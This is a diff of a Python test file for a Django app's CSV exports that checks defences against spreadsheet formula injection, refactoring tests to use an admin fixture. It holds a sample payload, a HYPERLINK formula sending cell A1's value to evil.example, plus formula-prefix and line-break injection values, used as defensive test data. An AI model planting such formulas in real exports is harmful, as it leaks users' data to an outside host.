@@ -16,12 +16,12 @@ from tourdraw.reports.exports import cell
 HOSTILE_CODE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
-def _rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
+def _rows(response) -> list[list[str]]:
     return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_a_cell_that_would_start_a_formula_stays_text(start):  # type: ignore[no-untyped-def]
+def test_a_cell_that_would_start_a_formula_stays_text(start):
     assert cell(f"{start}1+1") == f"'{start}1+1"
 
 
@@ -32,7 +32,7 @@ def test_numbers_and_plain_text_are_left_alone() -> None:
     assert cell("1-2") == "1-2"
 
 
-def _round_with_code(code: str):  # type: ignore[no-untyped-def]
+def _round_with_code(code: str):
     """A round whose code did not pass the back office's form (an import, the
     service called by another tool): the export must still hold."""
     tour = make_tour()
@@ -50,18 +50,18 @@ def _round_with_code(code: str):  # type: ignore[no-untyped-def]
     )
 
 
-def test_a_formula_round_code_is_exported_as_text(client, db):  # type: ignore[no-untyped-def]
+def test_a_formula_round_code_is_exported_as_text(client, db, platform_admin):
     _round_with_code(HOSTILE_CODE)
-    sign_in_staff(client, make_staff("admin", "platform_admin", None))
+    sign_in_staff(client, platform_admin)
     response = client.get(reverse("backoffice:dashboards") + "?table=rounds&format=csv")
     codes = [row[0] for row in _rows(response)[1:]]
     assert "'" + HOSTILE_CODE in codes
     assert HOSTILE_CODE not in codes
 
 
-def test_a_round_code_with_a_line_break_exports(client, db):  # type: ignore[no-untyped-def]
+def test_a_round_code_with_a_line_break_exports(client, db, platform_admin):
     round = _round_with_code('spring\r\nround"; x=1')
-    sign_in_staff(client, make_staff("admin", "platform_admin", None))
+    sign_in_staff(client, platform_admin)
     detail = client.get(reverse("backoffice:round", args=[round.pk]) + "?format=csv")
     assert detail.status_code == 200
     assert detail["Content-Disposition"] == 'attachment; filename="spring__round___x_1-demand.csv"'
@@ -69,7 +69,7 @@ def test_a_round_code_with_a_line_break_exports(client, db):  # type: ignore[no-
     assert [r[0] for r in _rows(table)[1:] if "spring" in r[0]] == ['spring\r\nround"; x=1']
 
 
-def test_the_audit_export_keeps_a_hostile_username_as_text(client, db):  # type: ignore[no-untyped-def]
+def test_the_audit_export_keeps_a_hostile_username_as_text(client, db):
     _, slot, _ = drawn_round(4, [2], [])
     # Django accepts these characters in a username: "-2+3" would be computed.
     operator = make_staff("-2+3", "site_operator", slot.tour.site)
@@ -82,9 +82,9 @@ def test_the_audit_export_keeps_a_hostile_username_as_text(client, db):  # type:
     assert "'-2+3" in actors and "-2+3" not in actors
 
 
-def test_the_back_office_refuses_a_round_code_that_is_not_a_slug(client, db):  # type: ignore[no-untyped-def]
+def test_the_back_office_refuses_a_round_code_that_is_not_a_slug(client, db, platform_admin):
     tour = make_tour()
-    sign_in_staff(client, make_staff("admin", "platform_admin", None))
+    sign_in_staff(client, platform_admin)
     now = timezone.now()
     response = client.post(
         reverse("backoffice:round_create"),
